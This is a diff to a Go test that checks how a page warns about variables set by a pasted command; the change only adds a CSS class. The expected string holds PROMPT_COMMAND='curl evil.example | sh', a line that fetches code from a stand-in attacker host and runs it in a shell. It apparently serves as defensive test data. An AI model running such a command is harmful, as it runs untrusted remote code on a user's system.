@@ -128,7 +128,7 @@ func TestPasteNamesVariables(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	const want = `</template> <span class="answers">It also sets: <code>A=$&#39;b\x1b&#39;</code>, <code>PROMPT_COMMAND=&#39;curl evil.example | sh&#39;</code></span></li>`
+	const want = `</template> <span class="answers sets">It also sets: <code>A=$&#39;b\x1b&#39;</code>, <code>PROMPT_COMMAND=&#39;curl evil.example | sh&#39;</code></span></li>`
 	if page := string(files["p/index.html"]); strings.Count(page, want) != 1 || strings.Count(page, "It also sets") != 1 {
 		t.Errorf("%d times, want once: %s", strings.Count(page, "It also sets"), want)
 	}
